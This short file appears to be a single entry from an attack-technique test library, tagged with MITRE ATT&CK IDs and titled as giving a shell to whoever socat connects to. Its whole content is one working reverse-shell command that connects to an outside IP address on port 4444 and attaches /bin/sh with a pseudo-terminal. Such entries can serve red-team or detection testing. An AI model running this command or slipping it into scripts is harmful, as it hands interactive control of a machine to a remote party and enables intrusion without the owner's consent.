# title: socat gives a shell to whoever it connects to
# technique: T1059.004 T1095
# needs: socat

timeout 10 socat TCP:192.88.99.7:4444 EXEC:/bin/sh,pty,stderr
